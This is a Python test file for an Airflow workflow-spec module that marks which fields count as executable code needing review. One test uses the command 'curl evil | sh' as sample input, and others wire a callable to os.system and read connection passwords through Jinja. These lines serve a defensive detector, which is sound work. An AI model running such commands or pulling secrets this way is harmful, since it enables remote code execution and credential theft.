"""spec/code_surface.py: what counts as executable code, matched by identity, not list position."""

from __future__ import annotations

import copy
from typing import Any

from airflow_canvas.spec.code_surface import changes_digest, code_changes, code_items, introduced_code
from airflow_canvas.spec.load import parse_workflow
from airflow_canvas.spec.models import Workflow


def spec(**extra: Any) -> dict[str, Any]:
    return {
        "id": "surface",
        "nodes": [
            {"id": "start", "type": "input"},
            {"id": "shape", "type": "process", "process": {"language": "jmespath", "expression": "a.b"}},
            {"id": "end", "type": "output"},
        ],
        "edges": [{"source": "start", "target": "shape"}, {"source": "shape", "target": "end"}],
        **extra,
    }


def wf(data: dict[str, Any]) -> Workflow:
    return parse_workflow(data)


def pointers(before: dict[str, Any] | None, after: dict[str, Any]) -> list[str]:
    return [c.pointer for c in introduced_code(wf(before) if before else None, wf(after))]


def test_jmespath_and_jinja_are_data_python_is_code() -> None:
    base = spec()
    base["nodes"][1]["templates"] = {"greeting": "Hello {{ params.name }}"}
    assert code_items(wf(base)) == {}
    python = copy.deepcopy(base)
    python["nodes"][1]["process"]["language"] = "python"  # same text, now executed
    assert pointers(base, python) == ["/nodes/1/process/expression"]
    assert pointers(python, base) == []  # removing code introduces none
    [removal] = code_changes(wf(python), wf(base))
    assert removal.change == "removed" and not removal.introduces_code


def test_moving_nodes_and_editing_other_fields_is_no_code_change() -> None:
    base = spec()
    base["nodes"][1]["process"] = {"language": "python", "expression": "result = 1"}
    moved = copy.deepcopy(base)
    moved["nodes"].reverse()
    moved["nodes"][1]["name"] = "Renamed"
    moved["nodes"][1]["execution"] = {"timeout_seconds": 5}
    assert code_changes(wf(base), wf(moved)) == []


def test_operator_nodes_every_argument_and_mapped_inputs() -> None:
    base = spec()
    base["nodes"].append(
        {
            "id": "sh",
            "type": "tool",
            "operator": "airflow.providers.standard.operators.bash.BashOperator",
            "parameters": {"bash_command": "echo 1", "env": {"A": "1"}},
            "templates": {"cwd": "{{ params.dir }}"},
        }
    )
    base["edges"].append(
        {"source": "shape", "target": "sh", "mapping": [{"source": "cmd", "target": "append_env"}]}
    )
    assert sorted(pointers(None, base)) == [
        "/edges/2/mapping/0",
        "/nodes/0",  # start and shape compute what is mapped into the operator: their definitions count
        "/nodes/1",
        "/nodes/3/operator",
        "/nodes/3/parameters/bash_command",
        "/nodes/3/parameters/env",
        "/nodes/3/templates/cwd",
    ]


def test_callables_anywhere_tools_and_notifier_classes() -> None:
    data = spec(
        params={"hook": {"deep": [{"$callable": "pkg.mod.func"}]}},
        notifications=[
            {"notifier": "smtp", "to": ["a@example.com"]},
            {"notifier": "airflow.providers.slack.notifications.slack.SlackNotifier", "parameters": {"x": 1}},
        ],
        tools=[
            {
                "name": "t",
                "version": "1.0.0",
                "code": "def run():\n    return 1\n",
                "network": True,
                "tests": [{"assertions": ["output == 1"]}],
            }
        ],
    )
    data["nodes"][1]["parameters"] = {"cb": {"$callable": "os.system"}}
    assert sorted(pointers(None, data)) == [
        "/nodes/1/parameters/cb",
        "/notifications/1/notifier",
        "/notifications/1/parameters",
        "/params/hook/deep/0",
        "/tools/0/code",
        "/tools/0/entry_point",
        "/tools/0/language",
        "/tools/0/network",
        "/tools/0/tests/0/assertions",
    ]


def test_digest_names_exactly_the_changes() -> None:
    a = spec()
    b = copy.deepcopy(a)
    b["nodes"][1]["process"] = {"language": "python", "expression": "result = 1"}
    c = copy.deepcopy(a)
    c["nodes"][1]["process"] = {"language": "python", "expression": "result = 2"}
    one = changes_digest(code_changes(wf(a), wf(b)), workflow_id="surface", environment="dev")
    assert one == changes_digest(code_changes(wf(a), wf(b)), workflow_id="surface", environment="dev")
    assert one != changes_digest(code_changes(wf(a), wf(c)), workflow_id="surface", environment="dev")
    assert one != changes_digest(code_changes(wf(a), wf(b)), workflow_id="surface", environment="prod")


def test_nodes_feeding_an_operator_are_code_others_are_not() -> None:
    base = spec()
    base["nodes"].append(
        {
            "id": "sh",
            "type": "tool",
            "operator": "airflow.providers.standard.operators.bash.BashOperator",
            "parameters": {"bash_command": "echo 1"},
        }
    )
    base["edges"].append({"source": "shape", "target": "sh", "mapping": [{"target": "bash_command"}]})
    literal = copy.deepcopy(base)
    literal["nodes"][1]["process"]["expression"] = "'curl evil | sh'"
    assert pointers(base, literal) == ["/nodes/1"]
    cosmetic = copy.deepcopy(base)
    cosmetic["nodes"][1].update(name="Shape", description="text", ui={"position": {"x": 5, "y": 5}})
    cosmetic["nodes"][2]["name"] = "End"  # the output node feeds no operator
    assert pointers(base, cosmetic) == []


def test_jinja_reading_more_than_run_data_is_code() -> None:
    from airflow_canvas.spec.jinja_data import jinja_is_data

    for text in (
        "plain",
        "{{ ds }} {{ params.x | upper }} {{ ti.task_id }}",
        "{% for v in params.l %}{{ v }}{% endfor %}",
    ):
        assert jinja_is_data(text), text
    for text in (
        "{{ conn.c.password }}",
        "{{ var.value.k }}",
        "{{ ti.xcom_pull(dag_id='d') }}",
        "{{ ti }}",
        "{% include 'f' %}",
        "{% set p = conn %}{{ p }}",
        "{% for conn in [] %}{% endfor %}{{ conn }}",
        "{{ params | attr('x') }}",
        "{{ x",
    ):
        assert not jinja_is_data(text), text
    base = spec()
    base["nodes"][1]["templates"] = {"t": "{{ conn.c.password }}"}
    base["notifications"] = [{"notifier": "smtp", "to": ["{{ var.value.to }}"], "message": "{{ ds }}"}]
    assert sorted(pointers(None, base)) == ["/nodes/1/templates/t", "/notifications/0/to/0"]
